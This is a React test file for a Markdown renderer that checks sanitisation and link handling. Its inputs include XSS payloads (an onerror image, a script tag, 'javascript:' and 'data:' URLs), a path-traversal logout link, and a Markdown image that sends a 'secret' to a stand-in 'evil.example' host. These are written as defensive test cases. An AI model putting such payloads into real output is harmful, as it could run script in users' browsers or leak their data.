import { render, waitFor } from '@testing-library/react'
import { describe, expect, it } from 'vitest'

import { Markdown } from '@/components/markdown'
import { SourceList } from '@/components/source-list'
import { OriginsContext } from '@/lib/own-pages'

type Origins = Readonly<Record<string, string>>

async function rendered(text: string, origins: Origins | null = null): Promise<HTMLElement> {
  const { container } = render(
    <OriginsContext value={origins}>
      <Markdown text={text} />
    </OriginsContext>,
  )
  await waitFor(() => expect(container.querySelector('.leading-relaxed')).not.toBeNull())
  return container
}

const linksOf = (page: HTMLElement) =>
  [...page.querySelectorAll('a')].map((link) => link.getAttribute('href'))

const SOURCES = ['Rhine', 'Elbe'].map((title) => ({ title, address: `/corpus/wiki/${title}` }))

describe('Markdown', () => {
  it('shows structure', async () => {
    const page = await rendered('**Bold**\n\n| a | b |\n| - | - |\n| 1 | 2 |')
    expect(page.querySelector('strong')?.textContent).toBe('Bold')
    expect(page.querySelectorAll('td')).toHaveLength(2)
  })

  it('never makes an element of raw HTML', async () => {
    const page = await rendered('<img src=x onerror=alert(1)><script>alert(1)</script><b>x</b>')
    expect(page.querySelector('img, script, b')).toBeNull()
  })

  it('shows no image, only its description', async () => {
    const page = await rendered(
      '![the secret](https://evil.example/leak?q=1) ![](https://evil.example)',
    )
    expect(page.querySelector('img')).toBeNull()
    expect(page.textContent).toContain('[the secret]')
    expect(page.innerHTML).not.toContain('evil.example')
  })

  it('links the studio’s own pages that agents read, with and without Markdown', async () => {
    const page = await rendered(
      'See [Rhine](/corpus/wiki/Rhine).\n\nSources:\n- Elbe: /corpus/wiki/Elbe, `/corpus/wiki/Oder`',
    )
    expect(linksOf(page)).toEqual(['/corpus/wiki/Rhine', '/corpus/wiki/Elbe'])
    expect(page.querySelector('li')?.textContent).toBe('Elbe: /corpus/wiki/Elbe, /corpus/wiki/Oder')
  })

  it('links strangers to where these pages came from, as far as it is known', async () => {
    const origin = 'https://en.wikipedia.org/wiki/Rhine'
    const page = await rendered('See /corpus/wiki/Rhine and [Elbe](/corpus/wiki/Elbe).', {
      '/corpus/wiki/Rhine': origin,
    })
    expect(linksOf(page)).toEqual([origin])
    const { container } = render(
      <OriginsContext value={{ '/corpus/wiki/Rhine': origin }}>
        <SourceList label="read" sources={SOURCES} />
      </OriginsContext>,
    )
    expect(linksOf(container)).toEqual([origin])
    expect(container.textContent).toBe('Rhineen.wikipedia.orgElbe')
  })

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    '/api/auth/logout',
    '/corpus/../api/auth/logout',
  ])('makes no link of %s', async (url) => {
    const page = await rendered(`[press](${url})`)
    expect(page.querySelector('a')).toBeNull()
    expect(page.textContent).toBe('press')
  })

  it('opens links elsewhere, without a way back', async () => {
    const page = await rendered('[site](https://example.org)')
    const link = page.querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://example.org/')
    expect(link?.getAttribute('rel')).toContain('noopener')
    expect(link?.getAttribute('target')).toBe('_blank')
  })
})
